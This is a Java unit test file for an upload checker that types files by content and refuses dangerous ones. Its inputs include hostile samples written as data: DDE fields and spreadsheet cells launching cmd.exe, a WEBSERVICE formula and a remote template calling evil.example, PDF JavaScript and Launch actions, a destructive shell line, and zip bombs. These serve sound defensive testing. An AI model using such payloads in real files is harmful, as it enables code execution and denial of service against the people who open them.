package org.throughline.platform.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.throughline.platform.attachment.Samples.EXCEL;
import static org.throughline.platform.attachment.Samples.OPEN_TEXT;
import static org.throughline.platform.attachment.Samples.WORD;
import static org.throughline.platform.attachment.Samples.bytes;
import static org.throughline.platform.attachment.Samples.compound;
import static org.throughline.platform.attachment.Samples.document;
import static org.throughline.platform.attachment.Samples.excel;
import static org.throughline.platform.attachment.Samples.field;
import static org.throughline.platform.attachment.Samples.joined;
import static org.throughline.platform.attachment.Samples.objectStream;
import static org.throughline.platform.attachment.Samples.openText;
import static org.throughline.platform.attachment.Samples.pdf;
import static org.throughline.platform.attachment.Samples.picture;
import static org.throughline.platform.attachment.Samples.relationship;
import static org.throughline.platform.attachment.Samples.types;
import static org.throughline.platform.attachment.Samples.word;
import static org.throughline.platform.attachment.Samples.zip;
import static org.throughline.platform.attachment.Samples.zipOfZeros;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.throughline.platform.problem.Refused;

/** A file is what is in it, whatever it is called, and nothing in it runs or opens something else. */
class FileContentsTest {

    final FileContents contents = new FileContents();

    @TempDir
    Path directory;

    @Test
    void what_minutes_and_reports_come_in_is_accepted_as_what_it_is() throws IOException {
        assertThat(type(pdf(), "text/html")).isEqualTo("application/pdf");
        assertThat(type(picture("png", 40, 30), "text/plain")).isEqualTo("image/png");
        assertThat(type(picture("jpg", 40, 30), "text/plain")).isEqualTo("image/jpeg");
        assertThat(type(bytes("Minutes of the group, 14 November 2016"), "application/pdf"))
                .isEqualTo("text/plain");
        assertThat(type("Zoë’s minutes".getBytes(StandardCharsets.UTF_16), "")).isEqualTo("text/plain");
        assertThat(type(bytes("number,owner\n1,csc\n-2,csc"), "text/csv; charset=utf-8"))
                .isEqualTo("text/csv");
        assertThat(type(word(), "")).isEqualTo(WORD);
        assertThat(type(excel(), "")).isEqualTo(EXCEL);
        assertThat(type(openText("<office:document xmlns:office='urn:o'/>"), ""))
                .isEqualTo(OPEN_TEXT);
        assertThat(type(compound("WordDocument", bytes("Minutes")), "")).isEqualTo("application/msword");
        assertThat(type(compound("Workbook", new byte[10]), "")).isEqualTo("application/vnd.ms-excel");
    }

    @Test
    void what_people_do_not_write_minutes_in_is_refused() throws IOException {
        isRefused("type", bytes("<!DOCTYPE html><html><script>1</script></html>"));
        isRefused("type", bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"));
        isRefused("type", bytes("#!/bin/sh\nrm -rf x\n"));
        isRefused("type", HexFormat.of().parseHex("4d5a90000300000004000000ffff0000b8000000"));
        isRefused("type", zip("minutes.txt", "one"));
        isRefused("type", compound("Installer", new byte[0]));
        isRefused("type", compound("PowerPoint Document", new byte[0]));
    }

    @Test
    void an_office_document_with_macros_controls_or_a_program_is_refused() throws IOException {
        isRefused("runs", word("word/vbaProject.bin", "anything"));
        isRefused("runs", word("word/_rels/document.xml.rels", relationship("vbaProject", "renamed.bin", false)));
        isRefused("runs", word("word/activeX/activeX1.xml", "<ax/>"));
        isRefused("runs", zip("[Content_Types].xml", types("application/vnd.ms-word.document.macroEnabled.main+xml")));
        isRefused("runs", excel("xl/macrosheets/sheet1.xml", "<xm/>"));
        isRefused("runs", word("word/media/image1.png", "MZ\u0090\u0000 a program"));
        isRefused("runs", word("evil.exe", "anything"));
        isRefused("runs", zip("mimetype", OPEN_TEXT, "content.xml", "<o/>", "Basic/Standard/Module1.xml", "<m/>"));
        isRefused("runs", compound("WordDocument", new byte[0], "Macros"));
        isRefused("runs", compound("Workbook", HexFormat.of().parseHex("850008000000000000010000"), "x"));
    }

    @Test
    void an_office_document_with_an_embedded_object_is_refused_and_one_with_a_plain_document_inside_is_not()
            throws IOException {
        isRefused("runs", word("word/embeddings/oleObject1.bin", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1"));
        isRefused("runs", word("word/_rels/document.xml.rels", relationship("oleObject", "embeddings/a.bin", false)));
        isRefused("runs", word("word/_rels/document.xml.rels", relationship("aFChunk", "chunk.html", false)));
        isRefused("runs", compound("WordDocument", new byte[0], "ObjectPool"));
        isRefused("runs", compound("Workbook", new byte[0], "MBD0001A2B3"));
        var chart = new String(excel(), StandardCharsets.ISO_8859_1);
        assertThat(type(word("word/embeddings/Microsoft_Excel_Sheet1.xlsx", chart), ""))
                .isEqualTo(WORD);
        var evil = new String(excel("xl/vbaProject.bin", "x"), StandardCharsets.ISO_8859_1);
        isRefused("runs", word("word/embeddings/Microsoft_Excel_Sheet1.xlsx", evil));
    }

    @Test
    void an_office_document_that_opens_or_fetches_something_is_refused_and_one_with_a_hyperlink_is_not()
            throws IOException {
        var part = "word/_rels/settings.xml.rels";
        isRefused("runs", word(part, relationship("attachedTemplate", "http://evil.example/t.dotm", true)));
        isRefused("runs", word(part, relationship("image", "http://evil.example/i.png", true)));
        isRefused("runs", word(part, relationship("hyperlink", "javascript:alert(1)", true)));
        isRefused("runs", word(part, relationship("frame", "frame.xml", false)));
        assertThat(type(word(part, relationship("hyperlink", "https://board.example.org/", true)), ""))
                .isEqualTo(WORD);
        isRefused("runs", word("word/footer1.xml", field(" DDEAUTO c:\\\\windows\\\\cmd.exe")));
        isRefused("runs", word("word/footer1.xml", field("D", "DE", " c:\\\\cmd.exe")));
        assertThat(type(word("word/footer1.xml", field(" PAGE ")), "")).isEqualTo(WORD);
        isRefused("runs", excel("xl/externalLinks/externalLink1.xml", "<l/>"));
        isRefused("runs", excel("xl/connections.xml", "<c/>"));
        var sheet =
                "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><f>%s</f></worksheet>";
        isRefused("runs", excel("xl/worksheets/sheet1.xml", sheet.formatted("WEBSERVICE(&quot;http://x&quot;)")));
        isRefused("runs", excel("xl/worksheets/sheet1.xml", sheet.formatted("cmd|'/c calc'!A0")));
        assertThat(type(excel("xl/worksheets/sheet1.xml", sheet.formatted("SUM(A1:A3)")), ""))
                .isEqualTo(EXCEL);
        var image = "<d:image xmlns:d='urn:d' xmlns:x='http://www.w3.org/1999/xlink' x:href='%s'/>";
        isRefused("runs", openText(image.formatted("https://evil.example/i.png")));
        assertThat(type(openText(image.formatted("Pictures/1.png")), "")).isEqualTo(OPEN_TEXT);
        isRefused("runs", compound("WordDocument", bytes("Minutes \u0013 DDEAUTO cmd")));
        isRefused("runs", compound("Workbook", HexFormat.of().parseHex("ae010400010001000000"), "x"));
    }

    @Test
    void a_pdf_with_scripts_actions_or_files_is_refused_also_where_they_are_packed_or_written_in_escapes()
            throws IOException {
        isRefused("runs", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"));
        isRefused("runs", pdf("<< /S /J#61vaScript >>"));
        isRefused("runs", pdf("<< /S /Launch /F (cmd.exe) >>"));
        isRefused("runs", pdf("<< /Names << /EmbeddedFiles << >> >> >>"));
        isRefused("runs", pdf("<< /S /GoToR /F (\\\\\\\\server\\\\share) >>"));
        isRefused("runs", pdf(objectStream("9 0 << /S /Launch >>")));
        isRefused("checked", pdf("<< /Encrypt 5 0 R >>"));
        isRefused("checked", pdf("<< /Length 30 >>\nstream\n9 0 obj << /A /B >> endobj\nendstream"));
        assertThat(type(pdf("(a text that says /JavaScript)", "<< /S /URI /URI (https://board.example.org) >>"), ""))
                .isEqualTo("application/pdf");
        assertThat(type(pdf(objectStream("9 0 << /Type /Font >>")), "")).isEqualTo("application/pdf");
    }

    @Test
    void a_file_of_two_types_or_with_something_before_or_behind_it_is_refused() throws IOException {
        var packed = zip("minutes.txt", "one");
        isRefused("runs", joined(picture("png", 4, 4), packed));
        isRefused("runs", joined(pdf(), packed));
        isRefused("checked", joined(pdf(), bytes("<script>alert(1)</script>")));
        isRefused("checked", joined(word(), bytes("behind")));
        isRefused("checked", zip("[Content_Types].xml", types(WORD + ".main+xml"), "A.xml", "<a/>", "a.xml", "<b/>"));
    }

    @Test
    @Timeout(120)
    void what_unpacks_to_more_than_a_reader_can_bear_is_refused_within_its_limits() throws IOException {
        var types = bytes(types(WORD + ".main+xml"));
        isRefused("checked", zipOfZeros("word/media/image1.bmp", 400L << 20, types));
        isRefused("checked", pdf(objectStream("9 0 " + " ".repeat(70 << 20))));
        var large = picture("png", 20, 20);
        System.arraycopy(HexFormat.of().parseHex("0000ea600000ea60"), 0, large, 16, 8); // 60,000 by 60,000
        isRefused("checked", large);
        isRefused("checked", Arrays.copyOf(picture("png", 400, 400), 60));
        isRefused("checked", word("word/extra.xml", "<!DOCTYPE a [<!ENTITY b 'cc'>]><a>&b;</a>"));
        isRefused("checked", word("word/extra.xml", document("x").substring(0, 40)));
    }

    @Test
    void text_that_is_none_a_form_and_a_cell_that_starts_a_program_are_refused() throws IOException {
        isRefused(
                "body",
                bytes("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\none\r\n--b--\r\n"));
        isRefused("runs", bytes("name,value\n=cmd|'/c calc'!A0,1\n"));
        isRefused("runs", bytes("name,value\nx,\"=WEBSERVICE(\"\"http://evil.example\"\")\"\n"));
    }

    @Test
    @Timeout(value = 120, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void what_is_made_to_be_searched_for_long_or_to_fill_the_memory_ends_within_its_limits() throws IOException {
        assertThat(type(bytes("one" + "\t".repeat(400_000) + "two"), "")).isEqualTo("text/plain");
        assertThat(type(bytes("--b\r\n" + "a:b\r\n".repeat(200_000)), "")).isEqualTo("text/plain");
        var sheet =
                "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><f>%s</f></worksheet>";
        assertThat(type(excel("xl/worksheets/sheet1.xml", sheet.formatted("a".repeat(1 << 20))), ""))
                .isEqualTo(EXCEL);
        isRefused("checked", excel("xl/worksheets/sheet1.xml", sheet.formatted("a".repeat(9 << 20))));
        isRefused("checked", word("word/extra.xml", "<a>".repeat(2_000) + "</a>".repeat(2_000)));
        isRefused("checked", compoundWithTablesInACircle());
    }

    @Test
    void a_line_break_hides_no_link_and_no_field() throws IOException {
        var image = "<d:image xmlns:d='urn:d' xmlns:x='http://www.w3.org/1999/xlink' x:href='%s'/>";
        isRefused("runs", openText(image.formatted("https://evil.example/i.png&#10;")));
        isRefused("runs", openText(image.formatted(" https://evil.example/i.png")));
        isRefused("runs", word("word/footer1.xml", field(" DDEAUTO c:\\\\cmd.exe&#13;")));
    }

    /** A list of tables whose last part continues with itself, in a file of 20 MB. */
    private static byte[] compoundWithTablesInACircle() {
        var file = Arrays.copyOf(compound("WordDocument", bytes("Minutes")), 20 << 20);
        int sector = 10;
        ByteBuffer.wrap(file)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(68, sector)
                .putInt(512 * (sector + 1) + 508, sector);
        return file;
    }

    String type(byte[] file, String said) throws IOException {
        return contents.check(Files.write(directory.resolve("upload"), file), said);
    }

    void isRefused(String why, byte[] file) {
        var rule = switch (why) {
            case "type" -> "a file is a PDF";
            case "runs" -> "the file holds";
            case "checked" -> "cannot be checked";
            default -> "send the file alone as the body";
        };
        assertThatThrownBy(() -> type(file, "text/plain"))
                .isInstanceOf(Refused.class)
                .hasMessageContaining(rule);
    }
}
